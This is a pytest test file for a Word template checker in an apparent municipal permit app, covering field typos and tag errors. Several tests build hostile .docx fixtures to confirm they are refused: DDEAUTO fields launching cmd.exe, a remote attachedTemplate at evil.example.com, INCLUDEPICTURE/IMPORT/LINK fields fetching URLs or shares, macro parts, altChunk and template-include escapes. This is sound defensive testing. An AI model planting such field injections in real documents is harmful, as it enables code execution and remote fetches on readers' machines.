"""The template checker: typos named with the nearest field, bad tags located,
split runs understood, and everything that is not a plain .docx refused."""

from __future__ import annotations

import shutil
import zipfile
from pathlib import Path

import pytest
from docx import Document
from docx.shared import Pt

from concom_desk.paths import forms_dir
from concom_desk.services.documents.template_check import check_template, guess_template_name

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def docx(path: Path, *paragraphs: str) -> Path:
    document = Document()
    for text in paragraphs:
        document.add_paragraph(text)
    document.save(path)
    return path


def rewrite(path: Path, change: dict[str, bytes | None]) -> Path:
    """Copy of a .docx with parts replaced, added (bytes) or removed (None)."""
    out = path.with_name("changed-" + path.name)
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(out, "w") as dst:
        for item in src.infolist():
            if item.filename in change:
                continue
            dst.writestr(item, src.read(item.filename))
        for name, data in change.items():
            if data is not None:
                dst.writestr(name, data)
    final = path.with_name(path.name)
    shutil.move(out, final)
    return final


def part(path: Path, name: str) -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.read(name).decode("utf-8")


def test_default_permit_is_fine() -> None:
    result = check_template(forms_dir() / "permit.docx")
    assert result.ok
    assert result.report() == "permit.docx: fine (checked as the permit template)"


def test_typo_named_with_nearest_field(tmp_path: Path) -> None:
    path = docx(tmp_path / "permit.docx", "Applicant: {{ applicant.nmae }}",
                "File: {{ filing.dep_fileno }}", "{{ aplicant.name }}")
    result = check_template(path)
    messages = [p.message for p in result.problems]
    assert messages == [
        "unknown field {{ applicant.nmae }}; did you mean {{ applicant.name }}?",
        "unknown field {{ filing.dep_fileno }}; did you mean {{ filing.dep_file_no }}?",
        "unknown field {{ aplicant }}; did you mean {{ applicant }}?",
    ]
    assert result.problems[0].paragraph == "Applicant: {{ applicant.nmae }}"


def test_field_of_another_template_is_unknown_here(tmp_path: Path) -> None:
    path = docx(tmp_path / "agenda.docx", "{{ standard_conditions }}")
    assert [p.message for p in check_template(path).problems] == [
        "unknown field {{ standard_conditions }}"]


def test_placeholder_split_over_runs_is_read_whole(tmp_path: Path) -> None:
    document = Document()
    paragraph = document.add_paragraph("Owner: ")
    paragraph.add_run("{{ own").bold = True
    paragraph.add_run("er.na").italic = True
    paragraph.add_run("me }} and {{ owner.nam").font.size = Pt(14)
    paragraph.add_run("e }}")
    path = tmp_path / "permit.docx"
    document.save(path)
    assert check_template(path).ok
    document.add_paragraph().add_run("{{ owner.ad")
    document.paragraphs[-1].add_run("dress }}").bold = True
    document.save(path)
    assert [p.message for p in check_template(path).problems] == [
        "unknown field {{ owner.address }}; did you mean {{ owner.address_lines }}?"]


def test_loop_variables_checked_against_the_list_items(tmp_path: Path) -> None:
    path = docx(tmp_path / "abutter-letter.docx", "{%p for notice in notices %}",
                "{{ notice.owner_name }} {{ notice.ownr_name }}",
                "{% for line in notice.address_lines %}{{ line }}{% endfor %}",
                "{{ loop.index }}", "{%p endfor %}")
    assert [p.message for p in check_template(path).problems] == [
        "unknown field {{ notice.ownr_name }}; did you mean {{ notice.owner_name }}?"]


def test_bad_tag_reported_with_its_paragraph(tmp_path: Path) -> None:
    path = docx(tmp_path / "permit.docx", "Dear applicant,",
                "{% if filing.dep_file_no %}DEP {{ filing.dep_file_no }}{% endfi %}")
    result = check_template(path)
    assert len(result.problems) == 1
    problem = result.problems[0]
    assert problem.message.startswith("bad template tag: Encountered unknown tag 'endfi'")
    assert problem.paragraph == "{% if filing.dep_file_no %}DEP {{ filing.dep_file_no }}" \
                                "{% endfi %}"


def test_unclosed_placeholder(tmp_path: Path) -> None:
    path = docx(tmp_path / "permit.docx", "Applicant {{ applicant.name")
    assert check_template(path).problems[0].message.startswith("bad template tag")


def test_typo_in_footer_is_found(tmp_path: Path) -> None:
    document = Document()
    document.add_paragraph("{{ filing.file_no }}")
    document.sections[0].footer.paragraphs[0].text = "{{ filing.fileno }}"
    document.save(tmp_path / "permit.docx")
    problems = check_template(tmp_path / "permit.docx").problems
    assert [(p.part, p.message) for p in problems] == [
        ("footer1", "unknown field {{ filing.fileno }}; did you mean {{ filing.file_no }}?")]


def test_docm_refused(tmp_path: Path) -> None:
    path = docx(tmp_path / "permit.docx", "hello")
    docm = path.rename(tmp_path / "permit.docm")
    result = check_template(docm)
    assert not result.ok
    assert "macro-enabled Word file (.docm)" in result.report()


def test_macro_part_inside_a_docx_refused(tmp_path: Path) -> None:
    path = docx(tmp_path / "permit.docx", "hello")
    content_types = part(path, "[Content_Types].xml").replace(
        "</Types>", '<Default Extension="bin" ContentType="application/'
                    'vnd.ms-office.vbaProject"/></Types>')
    rewrite(path, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 fake OLE",
                   "[Content_Types].xml": content_types.encode()})
    report = check_template(path).report()
    assert "refused" in report
    assert "macro or ActiveX code (word/vbaProject.bin)" in report
    assert "declares macro content (application/vnd.ms-office.vbaProject)" in report


def test_macro_enabled_main_content_type_refused(tmp_path: Path) -> None:
    path = docx(tmp_path / "permit.docx", "hello")
    content_types = part(path, "[Content_Types].xml").replace(
        "wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml")
    rewrite(path, {"[Content_Types].xml": content_types.encode()})
    assert "declares macro content" in check_template(path).report()


def test_remote_attached_template_refused(tmp_path: Path) -> None:
    path = docx(tmp_path / "permit.docx", "hello")
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships/attachedTemplate" '
            'Target="http://evil.example.com/t.dotm" TargetMode="External"/></Relationships>')
    rewrite(path, {"word/_rels/settings.xml.rels": rels.encode()})
    report = check_template(path).report()
    assert "attachedTemplate → http://evil.example.com/t.dotm" in report


def test_web_hyperlink_is_allowed_but_file_link_is_not(tmp_path: Path) -> None:
    path = docx(tmp_path / "permit.docx", "hello")
    rels = part(path, "word/_rels/document.xml.rels")
    link = ('<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships/hyperlink" Target="{}" TargetMode="External"/>')
    rewrite(path, {"word/_rels/document.xml.rels": rels.replace(
        "</Relationships>", link.format("https://www.uptonma.gov") + "</Relationships>"
    ).encode()})
    assert check_template(path).ok
    rewrite(path, {"word/_rels/document.xml.rels": rels.replace(
        "</Relationships>", link.format("file://server/share/x.docx") + "</Relationships>"
    ).encode()})
    assert "hyperlink → file://server/share/x.docx" in check_template(path).report()


def _with_body(path: Path, body_xml: str) -> Path:
    document = part(path, "word/document.xml")
    document = document.replace("<w:body>", "<w:body>" + body_xml, 1)
    return rewrite(path, {"word/document.xml": document.encode()})


def test_dde_in_a_simple_field_refused(tmp_path: Path) -> None:
    path = _with_body(docx(tmp_path / "permit.docx", "hello"),
                      '<w:p><w:fldSimple w:instr=\' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe'
                      ' "/k calc" \'><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>')
    assert "contains a DDEAUTO field" in check_template(path).report()


def test_dde_split_over_instruction_runs_refused(tmp_path: Path) -> None:
    runs = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            '<w:r><w:instrText xml:space="preserve"> D</w:instrText></w:r>'
            '<w:r><w:instrText>DE cmd "/c calc"</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    path = _with_body(docx(tmp_path / "permit.docx", "hello"), runs)
    assert "contains a DDE field" in check_template(path).report()


def test_includepicture_field_refused(tmp_path: Path) -> None:
    runs = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            '<w:r><w:instrText>includepicture "http://x.example/p.png" \\d</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    path = _with_body(docx(tmp_path / "permit.docx", "hello"), runs)
    assert "contains an INCLUDEPICTURE field" in check_template(path).report()


# Fields that read another file or a URL when Word updates them (docx_safety.py:
# "INCLUDE*/IMPORT/LINK read files or URLs"), each as Word writes it.
FILE_READING_FIELDS = [
    ("simple", ' LINK Excel.Sheet.12 "C:\\\\Budget.xlsx" "Sheet1!R1C1" \\a ',
     "contains a LINK field"),
    ("runs", ' INCLUDETEXT "\\\\\\\\server\\\\share\\\\boilerplate.docx" ',
     "contains an INCLUDETEXT field"),
    ("runs", " import http://x.example/seal.png ", "contains an IMPORT field"),
]


@pytest.mark.parametrize(("shape", "instruction", "message"), FILE_READING_FIELDS,
                         ids=[m.split()[-2] for _, _, m in FILE_READING_FIELDS])
def test_fields_that_read_other_files_refused(tmp_path: Path, shape: str, instruction: str,
                                               message: str) -> None:
    if shape == "simple":
        body = (f"<w:p><w:fldSimple w:instr='{instruction}'><w:r><w:t>x</w:t></w:r>"
                "</w:fldSimple></w:p>")
    else:
        body = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                f'<w:r><w:instrText xml:space="preserve">{instruction}</w:instrText></w:r>'
                '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
                '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    result = check_template(_with_body(docx(tmp_path / "permit.docx", "hello"), body))
    assert not result.ok
    assert message in result.report()


def test_page_number_fields_are_fine() -> None:
    assert check_template(forms_dir() / "denial.docx").ok  # its footer has PAGE/NUMPAGES


@pytest.mark.parametrize(("name", "content", "message"), [
    ("permit.docx", b"just some text", "not a Word .docx file"),
    ("permit.doc", b"\xd0\xcf\x11\xe0", "is not a .docx file"),
    ("permit.pdf", b"%PDF-1.4", "is not a .docx file"),
])
def test_not_a_docx_refused(tmp_path: Path, name: str, content: bytes, message: str) -> None:
    path = tmp_path / name
    path.write_bytes(content)
    assert message in check_template(path).report()


def test_zip_that_is_not_word_refused(tmp_path: Path) -> None:
    path = tmp_path / "permit.docx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("hello.txt", "hi")
    assert "no Word document inside" in check_template(path).report()


@pytest.mark.parametrize(("file_name", "expected"), [
    ("permit.docx", "permit"), ("Permit.docx", "permit"), ("permit (clerk).docx", "permit"),
    ("amended-permit.docx", "amended-permit"), ("letterhead.docx", "any"),
])
def test_template_guessed_from_file_name(file_name: str, expected: str) -> None:
    assert guess_template_name(Path(file_name)) == expected


def test_include_and_python_internals_reported(tmp_path: Path) -> None:
    path = docx(tmp_path / "permit.docx", "{% include 'C:/secret.docx' %}",
                "{{ applicant.name.__class__ }}")
    messages = [p.message for p in check_template(path).problems]
    assert messages == [
        "include/import/extends is not allowed in a template; put the text in the template "
        "itself",
        "unknown field {{ applicant.name.__class__ }}",
    ]


def test_zip_bomb_refused_without_unpacking(tmp_path: Path,
                                           monkeypatch: pytest.MonkeyPatch) -> None:
    from concom_desk.domain import docx_safety

    path = docx(tmp_path / "permit.docx", "hello")
    monkeypatch.setattr(docx_safety, "MAX_UNPACKED_BYTES", 1000)
    assert "far more than a letter template" in check_template(path).report()


def test_word_curly_quotes_inside_tags_are_understood(tmp_path: Path) -> None:
    """Word's AutoFormat turns "procedural" into “procedural” as the clerk types."""
    from concom_desk.services.documents.rendering import render_template
    from concom_desk.services.documents.template_examples import example_context

    path = docx(tmp_path / "denial.docx",
                "{% if denial_kind == \u201cprocedural\u201d %}PROCEDURAL{% else %}"
                "SUBSTANTIVE{% endif %}")
    assert check_template(path).ok
    context = example_context("denial")
    context["denial_kind"] = "procedural"
    out = render_template(path, context, tmp_path / "out.docx")
    assert [p.text for p in Document(str(out)).paragraphs] == ["PROCEDURAL"]


def test_trial_render_catches_what_reading_cannot(tmp_path: Path) -> None:
    # Every name is known, but a number cannot be looped over: only rendering finds out.
    path = docx(tmp_path / "permit.docx", "{% for x in commission.signers_needed %}{% endfor %}")
    problems = check_template(path).problems
    assert len(problems) == 1
    assert problems[0].message.startswith("it does not render with the example data")


def test_alt_chunk_refused(tmp_path: Path) -> None:
    path = docx(tmp_path / "permit.docx", "hello")
    rels = part(path, "word/_rels/document.xml.rels").replace(
        "</Relationships>",
        '<Relationship Id="rId77" Type="http://schemas.openxmlformats.org/officeDocument/'
        '2006/relationships/aFChunk" Target="chunk.rtf"/></Relationships>')
    rewrite(path, {"word/_rels/document.xml.rels": rels.encode(),
                   "word/chunk.rtf": b"{\\rtf1 }"})
    assert "imports another file when opened (altChunk chunk.rtf)" in check_template(
        path).report()
